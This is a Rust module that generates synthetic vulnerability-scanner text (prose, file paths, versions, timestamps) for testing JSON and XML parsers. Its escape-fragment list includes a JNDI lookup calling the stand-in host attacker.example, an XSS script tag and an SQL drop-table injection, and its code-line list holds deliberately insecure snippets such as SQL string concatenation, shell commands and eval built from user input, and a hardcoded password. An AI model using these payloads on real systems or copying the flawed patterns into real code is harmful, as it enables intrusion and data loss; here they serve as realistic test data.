//! Prose, paths and names that look like scanner output: security vocabulary, the odd quote,
//! backslash, markup fragment and non-ASCII word, so parsers meet escapes and multi-byte text
//! at realistic rates.

use crate::rng::Rng;

const WORDS: &[&str] = &[
    "a",
    "an",
    "the",
    "in",
    "of",
    "to",
    "via",
    "when",
    "which",
    "allows",
    "attacker",
    "remote",
    "local",
    "authenticated",
    "unauthenticated",
    "user",
    "users",
    "crafted",
    "request",
    "requests",
    "input",
    "payload",
    "header",
    "parameter",
    "value",
    "buffer",
    "overflow",
    "heap-based",
    "stack-based",
    "out-of-bounds",
    "read",
    "write",
    "use-after-free",
    "double",
    "free",
    "null",
    "pointer",
    "dereference",
    "integer",
    "underflow",
    "denial",
    "service",
    "memory",
    "corruption",
    "leak",
    "exhaustion",
    "arbitrary",
    "code",
    "execution",
    "command",
    "injection",
    "SQL",
    "cross-site",
    "scripting",
    "request",
    "forgery",
    "server-side",
    "path",
    "traversal",
    "directory",
    "symlink",
    "race",
    "condition",
    "privilege",
    "escalation",
    "information",
    "disclosure",
    "sensitive",
    "data",
    "cleartext",
    "credentials",
    "token",
    "session",
    "cookie",
    "certificate",
    "validation",
    "improper",
    "missing",
    "incorrect",
    "insufficient",
    "check",
    "bounds",
    "length",
    "function",
    "component",
    "module",
    "library",
    "parser",
    "decoder",
    "encoder",
    "handler",
    "implementation",
    "versions",
    "before",
    "after",
    "through",
    "prior",
    "fixed",
    "affected",
    "vulnerable",
    "could",
    "may",
    "might",
    "lead",
    "cause",
    "crash",
    "hang",
    "infinite",
    "loop",
    "recursion",
    "regular",
    "expression",
    "ReDoS",
    "deserialization",
    "untrusted",
    "XML",
    "external",
    "entity",
    "XXE",
    "JSON",
    "YAML",
    "HTTP/2",
    "TLS",
    "X.509",
    "DNS",
    "LDAP",
    "JNDI",
    "archive",
    "zip",
    "tar",
    "image",
    "file",
    "files",
    "configuration",
    "default",
    "option",
    "flag",
    "mode",
    "issue",
    "flaw",
    "bug",
    "vulnerability",
    "exists",
    "was",
    "found",
    "discovered",
    "reported",
    "because",
    "does",
    "not",
    "properly",
    "sanitize",
    "validate",
    "escape",
    "handle",
    "is",
    "are",
    "be",
    "can",
    "with",
    "by",
    "for",
    "on",
    "from",
    "and",
    "or",
    "this",
    "that",
    "its",
    "their",
    "any",
    "specially",
    "malformed",
    "large",
    "small",
    "negative",
    "zero",
    "length",
    "field",
];

/// Non-ASCII text real reports carry: names, quotes, dashes, translations, the odd emoji.
const NON_ASCII: &[&str] = &[
    "café",
    "naïve",
    "Zürich",
    "São Paulo",
    "résumé",
    "Ελληνικά",
    "日本語の説明",
    "Привет",
    "—",
    "“quoted”",
    "…",
    "🔒",
    "façade",
    "Straße",
    "Łódź",
    "안녕하세요",
    "中文字符",
    "€100",
    "µs",
    "ﬁle",
    "«guillemets»",
];

/// Fragments that need escaping in JSON or XML.
const SPECIAL: &[&str] = &[
    "\"quoted\"",
    "C:\\Windows\\System32\\drivers",
    "<script>alert(1)</script>",
    "a && b",
    "x < y > z",
    "${jndi:ldap://attacker.example/a}",
    "'; DROP TABLE users; --",
    "\\n",
    "tab\tseparated",
    "first line\nsecond line",
    "50% & more",
    "<b>bold</b>",
    "`backticks`",
    "a/b/c",
];

/// Control characters (JSON only: XML 1.0 cannot carry them).
const CONTROL: &[&str] = &["\u{1b}[31mred\u{1b}[0m", "bell\u{7}", "nul-free\u{1}"];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flavour {
    /// May contain control characters (JSON formats).
    Json,
    /// Only characters XML 1.0 allows.
    Xml,
}

/// One sentence of 6..=`max_words` words.
pub fn sentence(rng: &mut Rng, out: &mut String, max_words: u64, flavour: Flavour) {
    let n = rng.range(6, max_words.max(6));
    let start = out.len();
    for i in 0..n {
        if i > 0 {
            out.push(' ');
        }
        let roll = rng.below(1000);
        if roll < 12 {
            out.push_str(rng.pick(NON_ASCII));
        } else if roll < 20 {
            out.push_str(rng.pick(SPECIAL));
        } else if roll < 21 && flavour == Flavour::Json {
            out.push_str(rng.pick(CONTROL));
        } else {
            out.push_str(rng.pick(WORDS));
        }
    }
    // Capitalise the first letter when it is ASCII.
    if let Some(b) = out.as_bytes().get(start).copied()
        && b.is_ascii_lowercase()
    {
        // Safe: replacing one ASCII byte by another.
        let upper = (b as char).to_ascii_uppercase().to_string();
        out.replace_range(start..start + 1, &upper);
    }
    out.push('.');
}

/// Sentences until at least `min_len` bytes.
pub fn prose(rng: &mut Rng, min_len: usize, flavour: Flavour) -> String {
    let mut s = String::with_capacity(min_len + 80);
    while s.len() < min_len {
        if !s.is_empty() {
            s.push(' ');
        }
        sentence(rng, &mut s, 18, flavour);
    }
    s
}

/// Sentences until a length drawn from `lo..=hi` bytes.
pub fn prose_between(rng: &mut Rng, lo: u64, hi: u64, flavour: Flavour) -> String {
    let len = rng.range(lo, hi) as usize;
    prose(rng, len, flavour)
}

/// A short title: a handful of words, no trailing period.
pub fn title(rng: &mut Rng, flavour: Flavour) -> String {
    let mut s = String::new();
    sentence(rng, &mut s, 12, flavour);
    s.pop();
    s
}

const DIRS: &[&str] = &[
    "src",
    "lib",
    "app",
    "pkg",
    "internal",
    "cmd",
    "server",
    "client",
    "api",
    "web",
    "core",
    "util",
    "utils",
    "common",
    "services",
    "handlers",
    "controllers",
    "models",
    "views",
    "components",
    "routes",
    "middleware",
    "auth",
    "db",
    "storage",
    "config",
    "tests",
    "integration",
    "main",
    "java",
    "org",
    "example",
    "shop",
    "billing",
    "payments",
    "users",
    "admin",
    "legacy",
    "vendor",
    "third_party",
    "plugins",
    "scripts",
    "tools",
    "docs",
    "i18n",
    "données",
    "über",
];

const STEMS: &[&str] = &[
    "user", "order", "payment", "invoice", "session", "login", "upload", "report", "export",
    "search", "profile", "account", "cart", "checkout", "token", "crypto", "template", "render",
    "query", "client", "server", "handler", "parser", "loader", "cache", "index", "main", "app",
    "settings", "helpers", "views", "models", "router", "worker", "job",
];

/// A source file path for file index `i` of a repository with `seed` (same index, same path).
pub fn source_path(seed: u64, i: u64, exts: &[&str]) -> String {
    let mut rng = Rng::derive(seed, 0xF11E, i);
    let depth = rng.range(1, 5);
    let mut p = String::new();
    for _ in 0..depth {
        p.push_str(rng.pick(DIRS));
        p.push('/');
    }
    p.push_str(rng.pick(STEMS));
    if rng.chance(0.5) {
        p.push('_');
        p.push_str(rng.pick(STEMS));
    }
    p.push_str(&format!("_{i}"));
    p.push('.');
    p.push_str(rng.pick(exts));
    p
}

/// A line of source code as a snippet, in the style of the given extension.
pub fn code_line(rng: &mut Rng) -> String {
    const LINES: &[&str] = &[
        "    cursor.execute(\"SELECT * FROM users WHERE name = '\" + name + \"'\")",
        "        String sql = \"select * from orders where id=\" + request.getParameter(\"id\");",
        "  const html = `<div class=\"msg\">${req.query.msg}</div>`;",
        "\tcmd := exec.Command(\"sh\", \"-c\", userInput)",
        "    return render_template_string(request.args.get('tpl'))",
        "  res.send(\"<p>Hello \" + req.params.name + \"</p>\");",
        "        Cipher c = Cipher.getInstance(\"AES/CBC/PKCS5Padding\");",
        "    password = \"hunter2\"  # TODO: move to vault",
        "    yaml.load(stream)",
        "  eval(req.body.expr);",
        "        MessageDigest md = MessageDigest.getInstance(\"MD5\");",
        "    os.system(\"tar xzf \" + archive)",
        "    log.info(\"Zürich office — user {} logged in\", user);",
        "\tif err != nil { return fmt.Errorf(\"open %q: %w\", path, err) }",
        "    with open(os.path.join(base, filename)) as fh:",
        "  fetch(url, { headers: { Authorization: `Bearer ${token}` } })",
    ];
    let mut s = (rng.pick(LINES)).to_owned();
    if rng.chance(0.1) {
        s.push_str(" // ");
        s.push_str(rng.pick(NON_ASCII));
    }
    s
}

/// An ISO-8601 timestamp between 2015 and 2025.
pub fn timestamp(rng: &mut Rng) -> String {
    format!(
        "{}-{:02}-{:02}T{:02}:{:02}:{:02}.{:03}Z",
        rng.range(2015, 2025),
        rng.range(1, 12),
        rng.range(1, 28),
        rng.range(0, 23),
        rng.range(0, 59),
        rng.range(0, 59),
        rng.range(0, 999)
    )
}

/// A version string such as `1.18.0-r3`, `2.14.1`, `1:2.3.4-5+deb12u1`.
pub fn version(rng: &mut Rng) -> String {
    let mut v = format!(
        "{}.{}.{}",
        rng.range(0, 12),
        rng.range(0, 30),
        rng.range(0, 40)
    );
    match rng.below(4) {
        0 => v.push_str(&format!("-{}+deb12u{}", rng.range(1, 9), rng.range(1, 6))),
        1 => v.push_str(&format!("-r{}", rng.range(0, 9))),
        _ => {}
    }
    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prose_is_long_enough_and_deterministic() {
        let a = prose(&mut Rng::new(3), 500, Flavour::Xml);
        let b = prose(&mut Rng::new(3), 500, Flavour::Xml);
        assert_eq!(a, b);
        assert!(a.len() >= 500);
        assert!(!a.chars().any(|c| c.is_control() && c != '\n' && c != '\t'));
        assert_eq!(source_path(1, 5, &["py"]), source_path(1, 5, &["py"]));
    }
}
